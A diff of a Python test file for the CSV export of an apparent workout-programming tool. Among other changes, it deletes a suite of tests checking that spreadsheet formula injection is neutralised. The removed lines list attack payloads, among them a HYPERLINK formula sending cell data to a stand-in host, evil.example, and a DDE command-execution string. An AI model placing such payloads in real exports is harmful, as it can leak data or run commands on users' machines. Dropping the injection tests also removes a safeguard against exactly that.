@@ -1,70 +1,34 @@
-"""The table: a row for every set and stretch, by RFC 4180, and nothing in it is a formula."""
+"""The table: a row for every set and stretch, by RFC 4180."""
 
 from __future__ import annotations
 
-import csv
-import io
 import re
 from pathlib import Path
 
 import pytest
-from hypothesis import example, given, settings
-from hypothesis import strategies as st
 from mesocycle_csv import Csv
-from mesocycle_csv.cells import safe
 from mesocycle_csv.columns import COLUMNS
-from msgspec.structs import replace
 
-from mesocycle.output.sample_parts import EVERY_KIND, LADDER
+from mesocycle.output.sample_parts import EVERY_KIND
 from mesocycle.output.samples import (
     as_done,
     gym,
-    hostile,
     ladder,
     non_ascii,
-    programme,
     running,
     samples,
-    session,
     stopped,
 )
 from mesocycle.output.testing import OutputContract, content, rendered
 from mesocycle.programme import Block, Range, Segment, SegmentEnd, Set
+from plugins.csv.tests.reading import of, one, straight, table
 
 README = Path(__file__).parents[1] / "README.md"
-
-#: What begins a formula in Excel, LibreOffice or Google Sheets.
-LIVE = tuple("=+-@\t\r＝＋－＠")
 
 
 class TestContract(OutputContract):
     output = Csv()
     shows_disclaimer = False  # a table, for programs
-
-
-def table(programme, read_with=",", **options):
-    """The rows of a programme as Python's own reader sees them, what is empty left out."""
-    data = content(Csv(), programme, **options)
-    reader = csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=read_with)
-    found = []
-    for row in reader:
-        assert None not in row, "more cells than columns"
-        assert None not in row.values(), "fewer cells than columns"
-        found.append({name: cell for name, cell in row.items() if cell})
-    return found
-
-
-def of(rows, **wanted):
-    return [row for row in rows if all(row.get(name) == cell for name, cell in wanted.items())]
-
-
-def one(block, **changes):
-    return programme(replace(session("Strength", 0, block), **changes))
-
-
-def straight(*sets, **changes):
-    item = replace(LADDER[0], sets=sets, **changes)
-    return one(Block(kind="straight", items=(item,)))
 
 
 class TestForm:
@@ -257,72 +221,3 @@ class TestStopped:
 
     def test_decisions_which_hold_what_hurt_are_not_in_it(self):
         assert "no pain on 7 Dec" not in content(Csv(), ladder()).decode()
-
-
-#: What people paste, and what attackers do.
-ATTACKS = [
-    '=HYPERLINK("http://evil.example/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1", "\r=1", "\n=1", '"=1', '";=1', ';=1,=1', 'a;"=1"',
-    "a,=1", " =1", "'=1", "＝1", "a\t=1", "=\u200b1", "\ufeff=1", "-", "--", "=", '""=1', "a|=1",
-    '";"=1', '","=1', "x;' =1", "\u202e=1", "%0A=1", "=1\r\n=2", "a;\"\"\"=1",
-]  # fmt: skip
-
-
-def live(cell: str) -> bool:
-    return cell.startswith(LIVE) and not re.fullmatch(r"-?[0-9]+([.,][0-9]+)?", cell)
-
-
-def runs(cell: str) -> bool:
-    """Whether it would be a formula once space is stripped from it, as some programs do."""
-    return cell.strip().startswith(tuple("=+-@＝＋－＠"))
-
-
-def cells(data: str, delimiter: str):
-    csv.field_size_limit(10**7)
-    return [cell for row in csv.reader(io.StringIO(data, newline=""), delimiter=delimiter)
-            for cell in row]  # fmt: skip
-
-
-class TestFormulas:
-    """A name such as `=HYPERLINK(…)` is shown, not run, also where the delimiter is mistaken."""
-
-    @pytest.mark.parametrize("delimiter", ["comma", "semicolon", "tab"])
-    def test_a_thousand_payloads_and_none_is_live(self, delimiter):
-        payloads = [f"{front}{attack}{back}" for attack in ATTACKS
-                    for front in ("", "a", '"', "x;", "1,", " ", "'")
-                    for back in ("", '"', ";", ",=2", "\t-1")]  # fmt: skip
-        assert len(payloads) >= 1000
-        whole = programme(*(replace(session(text, 0), reason=text) for text in payloads))
-        data = content(Csv(), whole, delimiter=delimiter).decode()
-        own = {"comma": ",", "semicolon": ";", "tab": "\t"}[delimiter]
-        for read_with in ",;\t":
-            found = cells(data, read_with)
-            assert [cell for cell in found if runs(cell)] == []
-        assert not any(map(live, cells(data, own)))
-        back = [
-            row["session"] for row in csv.DictReader(io.StringIO(data, newline=""), delimiter=own)
-        ]
-        assert back == [safe(text) for text in payloads]
-
-    @pytest.mark.parametrize(
-        "text", ["Deadlift (RDL)", "5 min, -2 %", "a = b", "it's 8-12 reps", "Ski–Erg"]
-    )
-    def test_ordinary_words_stay_as_they_are(self, text):
-        mended = safe(text)
-        assert mended == text or mended.replace("'", "") == text.replace("'", "")
-
-    @pytest.mark.parametrize("text", ["=1+1", "+10 kg", "-", "@home", "＝1"])
-    def test_what_begins_a_formula_has_an_apostrophe_before_it(self, text):
-        assert safe(text) == f"'{text}"
-
-    @settings(max_examples=300, deadline=None)
-    @given(st.text(max_size=40))
-    @example('";=1')
-    def test_any_text_whatever(self, text):
-        data = content(
-            Csv(), hostile(text or "x"), columns="session,reason,exercise,notes,label,how"
-        ).decode()
-        for read_with in ",;\t":
-            assert not any(map(runs, cells(data, read_with)))
-        assert not any(map(live, cells(data, ",")))
-        assert {len(row) for row in csv.reader(io.StringIO(data, newline=""))} == {6}
